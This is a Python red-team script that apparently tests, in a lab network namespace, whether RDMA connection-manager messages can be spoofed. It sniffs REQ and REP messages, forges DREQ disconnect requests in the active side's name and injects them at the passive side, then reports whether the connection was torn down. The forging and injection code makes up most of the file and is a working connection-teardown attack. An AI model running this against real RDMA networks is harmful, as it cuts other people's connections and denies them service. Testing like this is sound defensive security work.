#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""cm - end an rdma_cm connection in the name of one of its ends (threat-model.md, 48).

The attacker is the wire. It observes the connection manager's messages: in the clear, and
under a seal in mode header or packet, they reveal all that a DREQ must contain. It then sends
DREQs to the passive side: in the clear, with the REQ's own seal, and with random seals. An
end that accepts one answers with a DREP, and the connection is over.

Prints {"read": whether the messages were readable, "answered": whether a DREP came,
"alive": how many packets of a reliable connection the passive side sent afterwards: within
two seconds, or until the first one if no DREP came}.

Example:
  tools/redteam/cm.py --netns m --ports ma mb
"""
import argparse
import json
import os
import struct
import sys
from dataclasses import dataclass

sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
from wire import Wire  # noqa: E402  (beside this file)

QP1 = 1
UD_SEND_ONLY = 0x64
RC_LAST = 0x1F      # highest opcode of reliable connections

# IBA 13.4.3 and 12.6: offsets of a MAD's class and attribute, and of fields in the messages
MAD_LEN, CLASS_AT, ATTRIBUTE_AT, DATA_AT = 256, 1, 16, 24
CLASS_CM, VERSION_CM, METHOD_SEND = 0x07, 2, 0x03
REQ, REP, RTU, DREQ, DREP = 0x10, 0x13, 0x14, 0x15, 0x16
REQ_QPN_AT, REP_QPN_AT = 32, 12


def attribute(shot):
    """Return the attribute of a readable message of the connection manager, or None."""
    mad = shot.payload
    if shot.opcode != UD_SEND_ONLY or shot.header.dqpn != QP1 or len(mad) < MAD_LEN or \
            mad[CLASS_AT] != CLASS_CM:
        return None
    return struct.unpack_from("!H", mad, ATTRIBUTE_AT)[0]


def word(shot, at):
    return struct.unpack_from("!I", shot.payload, DATA_AT + at)[0]


@dataclass
class Talk:
    """The messages observed while a connection is established."""

    req: object = None
    rep: object = None
    dreps: int = 0
    rc: int = 0

    def hear(self, side, shot):
        what = attribute(shot)
        if what == REQ:
            self.req = shot
        elif what == REP:
            self.rep = shot
        elif what == DREP:
            self.dreps += 1
        elif shot.opcode <= RC_LAST and side == Wire.TO_B:
            self.rc += 1

    def dreq(self):
        """Return a DREQ in the name of the REQ's sender."""
        mad = struct.pack("!BBBBHHQHHI", 1, CLASS_CM, VERSION_CM, METHOD_SEND, 0, 0,
                          int.from_bytes(os.urandom(8), "big"), DREQ, 0, 0)
        mad += struct.pack("!III", word(self.req, 0), word(self.rep, 0), word(self.rep, REP_QPN_AT))
        return self.req.but(payload=mad.ljust(MAD_LEN, b"\0"), psn=self.req.psn + 100 & 0xffffff)


def attack(wire, patience):
    talk = Talk()
    wire.tap = talk.hear
    # if the messages are unreadable, wait for traffic instead
    wire.until(lambda: talk.rep and talk.rc > 20 or talk.rc > 200, patience)
    read = bool(talk.req and talk.rep)
    if read:
        for _ in range(5):
            wire.put(Wire.TO_B, talk.dreq().disguises())
            wire.rest(0.2)
    wire.until(lambda: talk.dreps, 10)
    answered, before = talk.dreps > 0, talk.rc
    wire.rest(2)
    if not answered:
        wire.until(lambda: talk.rc > before)
    return {"read": read, "answered": answered, "alive": talk.rc - before}


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--netns", required=True, metavar="NETNS")
    parser.add_argument("--ports", required=True, nargs=2, metavar="DEV",
                        help="towards the active side, and towards the passive one")
    parser.add_argument("--patience", type=float, default=120, metavar="SECONDS",
                        help="for a connection to be made (120)")
    options = parser.parse_args()
    wire = Wire(options.netns, options.ports)
    print("the wire", file=sys.stderr, flush=True)
    print(json.dumps(attack(wire, options.patience)), flush=True)
    wire.rest(600)      # until killed: without this process, no frame passes


if __name__ == "__main__":
    main()
